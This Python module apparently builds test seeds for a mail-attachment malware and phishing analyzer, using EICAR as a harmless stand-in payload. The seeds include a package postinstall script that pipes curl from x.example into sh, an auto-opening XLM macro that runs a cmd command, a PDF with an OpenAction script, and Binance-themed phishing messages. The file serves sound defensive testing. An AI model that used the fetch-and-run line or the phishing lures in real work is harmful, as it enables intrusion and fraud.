"""Seed inputs for the harnesses: the repo's test files and containers built in code.

Nothing here is live malware: EICAR (the standard harmless test string) stands in for a
payload; ``tests/data`` holds only harmless technique samples (see its SOURCES.md).
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from functools import cache

from harness import REPO

DATA = REPO / "tests" / "data"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def eicar_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("eicar.com", EICAR)
    return buf.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def qr_png(text: str = "https://binance-verify.example/login?id=1") -> bytes:
    """A small PNG holding one QR code (zxing-cpp's writer), the input of analyzers/qr.py."""
    import zxingcpp
    from PIL import Image

    code = zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode)
    mark = Image.fromarray(zxingcpp.write_barcode_to_image(code, scale=3)).convert("L")
    picture = Image.new("L", (mark.width + 40, mark.height + 40), 230)
    picture.paste(mark, (20, 20))
    buf = io.BytesIO()
    picture.save(buf, "PNG")
    return buf.getvalue()


def pdf_document() -> bytes:
    """A one-page PDF with a link annotation, an OpenAction script and an embedded file (pypdf)."""
    from pypdf import PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import DictionaryObject, NameObject, RectangleObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_annotation(0, Link(rect=RectangleObject((10, 10, 100, 40)), url="http://bit.ly/wallet-verify"))
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('seed phrase');")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.add_attachment("eicar.com", EICAR)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


@cache
def new_format_files() -> tuple[bytes, ...]:
    """Seeds for the parsers added on 2026-12-01: CHM, xar/UDIF/cpio/pbzx, BIFF8 and XLSB XLM, QR, PDF.

    Built once per process, as :func:`files` is: some builders stamp the current time (zip and 7z
    members, ISO), so a second build is not byte-identical and ``files()`` must hold these very bytes.
    """
    from analyzers import test_xlm as xlm
    from unpack import builders

    pkg_payload = builders.cpio_odc({"./postinstall": b"#!/bin/sh\ncurl http://x.example/a | sh\n"})
    run_cmd = [xlm.biff8_str("cmd /c echo harmless-test") + xlm.biff8_call(xlm.EXEC, 1), xlm.biff8_call(xlm.HALT, 0)]
    xlsb_cell = [xlm.biff12_str("cmd /c echo harmless-test") + struct.pack("<BBH", 0x42, 1, xlm.EXEC)]
    return (
        builders.chm_file({"/index.htm": b"<html><script>location='http://x.example/'</script></html>",
                           "/eicar.com": EICAR}),
        builders.xar_archive({"Scripts": pkg_payload, "Payload": builders.pbzx(pkg_payload)}),
        builders.udif_image(builders.fat12_image({"EICAR.COM": EICAR, "README.TXT": b"wallet\n"}, sectors=720)),
        pkg_payload,
        builders.pbzx(EICAR * 4),
        xlm.biff8_workbook(run_cmd, auto_open=True, clsid=xlm.EXCEL_CLSID),
        xlm.xlsb_workbook(xlsb_cell, auto_open=True),
        qr_png(),
        pdf_document(),
    )


@cache
def files() -> tuple[bytes, ...]:
    """Attachment-sized seeds: every tests/data file plus one container of each kind."""
    from unpack import builders

    out = [p.read_bytes() for p in sorted(DATA.iterdir()) if p.is_file() and p.suffix != ".md"]
    inner = {"eicar.com": EICAR, "readme.txt": b"seed phrase wallet binance\n", "a.lnk": builders.LNK}
    out += [
        eicar_zip(),
        builders.zip_archive(inner, password=b"infected"),
        builders.zipcrypto_archive(inner, b"infected"),
        builders.sevenzip_archive(inner),
        builders.sevenzip_archive(inner, password="infected"),
        builders.iso_image(inner),
        builders.cab_archive(inner),
        builders.outlook_msg("invoice", "see attached", {"eicar.com": EICAR}),
        builders.tnef({"eicar.com": EICAR}),
        builders.gzip_bytes(EICAR),
        _tar(inner),
        builders.fixed_vhd(builders.fat12_image({"EICAR.COM": EICAR}, sectors=720)),
        *new_format_files(),
    ]
    return tuple(out)


@cache
def messages() -> tuple[bytes, ...]:
    """Whole-message seeds: plain, HTML, each file seed attached, nested and encoded-word headers."""
    from helpers import make_message

    out = [
        make_message(),
        make_message(subject="=?utf-8?q?Your_wallet?=", body="Enter your seed phrase at binance-verify.com",
                     html="<p>Dear <b>Binance</b> user, <a href='http://bit.ly/x'>verify</a></p>"),
        make_message(body="send 0.1 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2\n",
                     headers=[("Authentication-Results", "mx.example; dkim=pass header.d=binance.com")]),
        # mime.parse_from: an unquoted '@' in the display name; urls_common: defanged and bare links
        make_message(sender="support@binance.com via Binance <noreply@mailer.example>",
                     body="Verify at hxxps://binance-verify[.]com/login or www.wallet-fix.example/a?b=c\n"
                          "(http://192.0.2.7:8080/x) <https://t.co/AbC> mailto:a@b.example\n"),
        # mime.parse_bytes reads runs of lines: long lines, bare CR / LF and a header without a body
        b"From: a@b.example\nSubject: " + b"x" * 3000 + b"\n\n" + b"line\r" * 200 + b"\n" + b"y" * 20000 + b"\n",
        b"From: =?utf-8?b?QmluYW5jZQ==?= <a@b.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n",
    ]
    out += [make_message(subject="invoice", attachments=[(f"file{n}.bin", data)]) for n, data in enumerate(files())]
    inner = make_message(attachments=[("eicar.zip", eicar_zip())])
    out.append(make_message(attachments=[("fwd.eml", inner, "message/rfc822")]))
    return tuple(out)
